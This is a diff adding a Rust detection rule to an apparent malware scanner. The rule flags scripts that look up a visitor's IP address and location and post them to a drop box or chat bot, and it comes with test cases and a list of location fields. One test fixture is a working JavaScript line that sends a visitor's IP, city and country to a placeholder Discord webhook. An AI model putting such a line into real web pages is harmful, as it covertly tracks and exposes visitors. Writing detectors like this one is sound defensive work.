@@ -1,0 +1,58 @@
+//! `visitor-placed-for-bot`.
+
+use crate::facts::Atom;
+use crate::signals::near::Near;
+use crate::signals::{Evidence, Held, Signal, one};
+use crate::{ClassSet, Severity};
+
+pub(super) const SIGNAL: Signal = Signal {
+    id: "visitor-placed-for-bot",
+    description: "The script looks up the visitor's address and place and posts them to a public drop box or a chat bot.",
+    severity: Severity::High,
+    classes: ClassSet::MALWARE,
+    needs: &[one(&[Atom::AddressLookup]), one(&[Atom::DropBox]), one(&[Atom::Post, Atom::PostMethod])],
+    within: 250,
+    only_if: Some(tells),
+    #[cfg(test)]
+    cases: crate::signals::Cases {
+        with: &[
+            "fetch('https://ipinfo.io/json').then(r=>r.json()).then(d=>fetch('https://discord.com/api/webhooks/0/x',{method:'POST',body:JSON.stringify({content:d.ip+d.city+d.country})}))",
+        ],
+        without: &[
+            "fetch('https://ipinfo.io/json').then(r=>r.json()).then(d=>{country.value=d.country});form.onsubmit=()=>fetch('https://formspree.io/f/x',{method:'POST',body:new FormData(form)})",
+            "fetch('https://ipapi.co/json').then(r=>r.json()).then(d=>show(d.city));b.onclick=()=>fetch('https://hooks.slack.com/x',{method:'POST',body:JSON.stringify({text:note.value})})",
+        ],
+    },
+};
+
+/// Whether several things that such a service answers are named, and no field of a form is read.
+fn tells(evidence: &Evidence<'_>, held: Held) -> bool {
+    let near = Near::new(evidence, held, 40);
+    let mut told: Vec<&str> = near.words(PLACE).map(|at| near.word(at)).collect();
+    told.sort_unstable();
+    told.dedup();
+    told.len() >= 3
+        && near.has_word(&["ip", "query", "IP"])
+        && !near.has_fact(&[Atom::FieldValue, Atom::FormContents])
+}
+
+/// What is known of an address.
+const PLACE: &[&str] = &[
+    "ip",
+    "city",
+    "region",
+    "regionName",
+    "country",
+    "country_name",
+    "countryCode",
+    "org",
+    "isp",
+    "loc",
+    "timezone",
+    "postal",
+    "hostname",
+    "latitude",
+    "longitude",
+    "lat",
+    "lon",
+];
